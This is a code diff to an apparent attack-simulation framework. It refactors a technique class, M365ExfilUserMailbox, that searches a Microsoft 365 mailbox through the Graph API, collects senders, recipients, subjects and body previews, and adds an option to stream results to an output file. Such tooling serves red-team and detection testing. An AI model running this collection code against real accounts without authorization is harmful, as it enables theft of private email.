@@ -1,7 +1,8 @@
 from ..base_technique import BaseTechnique, ExecutionStatus, MitreTechnique
 from ..technique_registry import TechniqueRegistry
 from typing import Dict, Any, Tuple
-from core.entra.graph_request import GraphRequest
+from core.entra.graph_request import GraphRequest, GraphRequestError
+from core.output_manager.output_manager import OutputManager
 
 @TechniqueRegistry.register
 class M365ExfilUserMailbox(BaseTechnique):
@@ -22,6 +23,10 @@ class M365ExfilUserMailbox(BaseTechnique):
         try:
             search_term: str = kwargs.get('search_term', None)
             search_field: str = kwargs.get('search_field', None)
+            stream_output: bool = kwargs.get('stream_output', False)
+
+            if stream_output in [None, ""]:
+                stream_output = False
             
             search_field_options = ['body','subject','attachment','from']
             
@@ -39,43 +44,24 @@ class M365ExfilUserMailbox(BaseTechnique):
                         }
                     endpoint_url = f'https://graph.microsoft.com/v1.0/me/messages?$search="{search_field}:{search_term}"&$select=id,from,toRecipients,subject,bodyPreview'
             
-            # Get emails from users mailbox
-            raw_response = GraphRequest().get(url = endpoint_url)
-
-            if 'error' in raw_response:
-                return ExecutionStatus.FAILURE, {
-                    "error": str(raw_response.get('error', "")),
-                    "message": "Failed to exfil users mailbox"
-                }
-
-            email_collected = []
+            # Get emails from users mailbox, parsing each page as it arrives
+            emails = (self._parse_email(email) for email in GraphRequest().iter_items(url = endpoint_url))
 
-            for email in raw_response:
+            if stream_output:
+                # Write emails to the technique output file instead of collecting them in memory
+                with OutputManager.get_instance().open_output_stream(self.__class__.__name__) as output_stream:
+                    output_stream.write_many(emails)
 
-                # checking keys for inconsistent data in returned emails
-                if 'subject' in email.keys():
-                    subject = email.get('subject', 'N/A')
-                else:
-                    subject = 'N/A'
-                if 'bodyPreview' in email.keys():
-                    body_preview = email.get('bodyPreview', 'N/A')
-                else:
-                    body_preview = 'N/A'
-                if 'from' in email.keys():
-                    sender = f"{email.get('from', 'N/A').get('emailAddress').get('name', 'N/A')} - {email.get('from', 'N/A').get('emailAddress').get('address', 'N/A')}"
-                else:
-                    sender = 'N/A'
-                if 'toRecipients' in email.keys():
-                    recipient = email.get('toRecipients', 'N/A')
-                else:
-                    recipient = 'N/A'
+                return ExecutionStatus.SUCCESS, {
+                    "message": f"Successfully collected {output_stream.count} emails from users mailbox to {output_stream.file_path}",
+                    "value": {
+                        "emails_collected": output_stream.count,
+                        "output_file": str(output_stream.file_path),
+                        "event_id": output_stream.event_id
+                    }
+                }
 
-                email_collected.append({
-                    'Subject' : subject,
-                    'Body Preview' : body_preview,
-                    'From (Sender)' : sender,
-                    'To (Recipient)' : recipient
-                })
+            email_collected = list(emails)
         
             if email_collected:
                 return ExecutionStatus.SUCCESS, {
@@ -88,12 +74,43 @@ class M365ExfilUserMailbox(BaseTechnique):
                     "value": []
                 }
 
+        except GraphRequestError as e:
+            return ExecutionStatus.FAILURE, {
+                "error": str(e.error),
+                "message": "Failed to exfil users mailbox"
+            }
         except Exception as e:
             return ExecutionStatus.FAILURE, {
                 "error": str(e),
                 "message": "Failed to collect emails from users mailbox"
             }
 
+    def _parse_email(self, email: Dict[str, Any]) -> Dict[str, Any]:
+        """Extract collected fields from a message, checking keys for inconsistent data in returned emails"""
+        if 'subject' in email.keys():
+            subject = email.get('subject', 'N/A')
+        else:
+            subject = 'N/A'
+        if 'bodyPreview' in email.keys():
+            body_preview = email.get('bodyPreview', 'N/A')
+        else:
+            body_preview = 'N/A'
+        if 'from' in email.keys():
+            sender = f"{email.get('from', 'N/A').get('emailAddress').get('name', 'N/A')} - {email.get('from', 'N/A').get('emailAddress').get('address', 'N/A')}"
+        else:
+            sender = 'N/A'
+        if 'toRecipients' in email.keys():
+            recipient = email.get('toRecipients', 'N/A')
+        else:
+            recipient = 'N/A'
+
+        return {
+            'Subject' : subject,
+            'Body Preview' : body_preview,
+            'From (Sender)' : sender,
+            'To (Recipient)' : recipient
+        }
+
     def get_parameters(self) -> Dict[str, Dict[str, Any]]:
         return {
             "search_term": {
@@ -109,5 +126,12 @@ class M365ExfilUserMailbox(BaseTechnique):
                 "default":None, 
                 "name": "Search Field (Options: body / subject / attachment / from)", 
                 "input_field_type" : "text"
+            },
+            "stream_output": {
+                "type": "bool", 
+                "required": False, 
+                "default": False, 
+                "name": "Stream Emails to Output File (for large mailboxes)", 
+                "input_field_type" : "bool"
             }
         }
\ No newline at end of file